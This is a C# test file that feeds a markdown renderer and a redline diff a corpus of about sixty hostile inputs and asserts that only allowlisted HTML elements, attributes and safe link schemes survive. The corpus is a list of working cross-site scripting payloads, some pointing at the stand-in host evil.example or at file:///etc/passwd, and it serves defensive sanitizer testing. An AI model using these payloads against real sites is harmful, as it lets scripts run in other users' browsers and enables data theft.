using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CharteFlow.Adapters.Documents;

namespace CharteFlow.Adapters.Tests.Documents;

/// <summary>What people could paste to run a script in a colleague's browser.</summary>
public sealed class HostileMarkdownTests
{
    private static readonly string[] Elements =
    [
        "p",
        "br",
        "hr",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
    ];

    private static readonly string[] Attributes = ["href", "rel", "start"];

    public static TheoryData<string> Corpus =>
        [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<input autofocus onfocus=alert(1)>",
            "<form action=https://evil.example><button>x</button></form>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css'</style>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#115;cript:alert(1))",
            "[x](java%0ascript:alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](file:///etc/passwd)",
            "[x](blob:https://evil.example/1)",
            "[x](<javascript:alert(1)>)",
            "<javascript:alert(1)>",
            "<data:text/html,x>",
            "[x]: javascript:alert(1)\n\n[x]",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/pixel.png)",
            "![x](x\"onerror=\"alert(1))",
            "[x](https://a.example \"onmouseover=alert(1)\")",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "`<script>alert(1)</script>`",
            "```\n<script>alert(1)</script>\n```",
            "```html\"><script>alert(1)</script>\nx\n```",
            "    <script>alert(1)</script>",
            "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
            "# <img src=x onerror=alert(1)>",
            "- <iframe src=//evil.example>",
            "> <svg/onload=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\<script>alert(1)\\</script>",
            "**<b onclick=alert(1)>x</b>**",
            "x\0<script\0>alert(1)</script>",
            "<a id=x name=y class=z>x</a>",
        ];

    [Theory]
    [MemberData(nameof(Corpus))]
    public void ToHtml_HostileMarkdown_KeepsHarmlessElementsOnly(string markdown)
    {
        var elements = Rendered(new MarkdownRenderer().ToHtml(markdown));

        Assert.All(elements, e => Assert.Contains(e.LocalName, Elements));
        Assert.All(elements.SelectMany(e => e.Attributes), a => Assert.Contains(a.Name, Attributes));
        Assert.All(
            elements.Select(e => e.GetAttribute("href")).OfType<string>(),
            h => Assert.Matches("^(https?:|mailto:|[^:]*$)", h)
        );
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void Compare_HostileMarkdown_KeepsHarmlessElementsOnly(string markdown)
    {
        var elements = Rendered(Redline.Compare("avant", markdown, Charters.Language.French).Html);

        Assert.All(elements, e => Assert.Contains(e.LocalName, (string[])[.. Elements, "ins", "del", "span"]));
        Assert.All(elements.SelectMany(e => e.Attributes), a => Assert.Equal("visually-hidden", a.Value));
    }

    [Fact]
    public void ToHtml_FromManyThreads_IsTheSame()
    {
        var renderer = new MarkdownRenderer();

        var all = ParallelEnumerable
            .Range(0, 200)
            .Select(_ => renderer.ToHtml("# a\n\n[b](https://c.fr) <i>d</i>"))
            .Distinct()
            .ToList();

        Assert.Single(all);
    }

    private static List<IElement> Rendered(string html) =>
        [.. new HtmlParser().ParseDocument("<body>" + html).Body!.QuerySelectorAll("*")];
}
